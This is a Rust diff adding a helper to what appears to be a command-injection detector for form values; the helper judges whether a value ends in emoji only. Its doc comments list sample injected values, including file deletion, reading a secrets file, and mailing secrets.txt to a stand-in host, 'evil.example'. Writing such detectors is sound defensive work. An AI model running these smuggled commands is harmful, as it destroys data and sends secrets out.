@@ -74,6 +74,20 @@ pub(super) fn one_token_to_end(v: &[u8], from: usize, plus: bool) -> bool {
     }
 }
 
+/// Whether what follows `from` to the value's end is pictographs and symbols only (no ASCII
+/// byte but blanks, no letter or digit of any script): `&& more ☕`, `; sort 🙂`. A command
+/// given such an operand reads a file no upload names so; a sentence ends that way.
+pub(super) fn only_pictographs_to_end(v: &[u8], from: usize, plus: bool) -> bool {
+    let rest = v.get(from..).unwrap_or_default();
+    if rest.len() > 64 || !rest.iter().any(|&b| b >= 0x80) {
+        return false;
+    }
+    std::str::from_utf8(rest).is_ok_and(|t| {
+        t.bytes().all(|b| b >= 0x80 || is_blank(b, plus))
+            && t.chars().all(|c| c.is_ascii() || !c.is_alphanumeric())
+    })
+}
+
 /// `a; rm x y z`, `a; tar cf x.tar a`, `a; reboot now`, `ns1.example.com; dig axfr
 /// example.com`, `a & type secrets.txt`, `hello; mail me@evil.example < secrets.txt`: a
 /// value of one data token (what a ping, lookup or file form asks for), a spaced separator,
